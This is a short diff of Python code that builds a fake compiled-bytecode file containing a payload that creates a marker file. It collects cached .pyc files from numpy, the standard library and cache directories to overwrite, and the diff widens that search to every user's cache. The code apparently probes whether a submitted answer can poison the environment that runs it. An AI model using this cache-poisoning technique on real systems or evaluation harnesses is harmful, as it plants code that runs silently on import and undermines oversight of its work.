@@ -10,7 +10,7 @@ code = marshal.dumps(compile("open('/tmp/LEFT_BY_AN_ANSWER', 'w')", "numpy", "ex
 poison = importlib.util.MAGIC_NUMBER + b"\0" * 12 + code
 places = glob.glob(os.path.join(os.path.dirname(np.__file__), "__pycache__", "*.pyc"))[:20]
 places += glob.glob(os.path.join(os.path.dirname(os.__file__), "__pycache__", "*.pyc"))[:20]
-places += glob.glob("/root/.cache/**/*.nb[ic]", recursive=True)[:20]
+places += glob.glob("/*/.cache/**/*.nb[ic]", recursive=True)[:20]
 places += glob.glob("/tmp/**/*.nb[ic]", recursive=True)[:20] + ["__pycache__/rnn_step.pyc"]
 written = 0
 for place in places:
